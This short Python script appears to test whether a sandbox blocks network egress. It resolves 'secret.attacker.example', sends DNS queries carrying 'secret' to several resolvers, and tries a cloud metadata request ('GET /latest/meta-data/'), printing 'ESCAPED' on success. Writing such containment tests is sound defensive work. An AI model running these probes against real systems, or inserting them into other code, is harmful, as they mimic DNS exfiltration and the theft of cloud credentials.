import socket
import sys


def reached(address, kind=socket.SOCK_STREAM, data=b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n"):
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.5)
            one.connect(address)
            one.send(data)
            one.recv(1)
            print("ESCAPED: reached", address, kind)
    except OSError:
        pass


import os

for name in ("secret.attacker.example", "kubernetes.default.svc.cluster.local", "deb.debian.org"):
    try:
        print("ESCAPED:", socket.getaddrinfo(name, 80))
    except OSError:
        pass
for host in ("127.0.0.53", "10.96.0.10", "8.8.8.8", "1.1.1.1"):
    reached((host, 53), socket.SOCK_DGRAM, b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01")
    reached((host, 53))
if os.path.exists("/etc/resolv.conf"):
    print("ESCAPED: /etc/resolv.conf")
print("held")
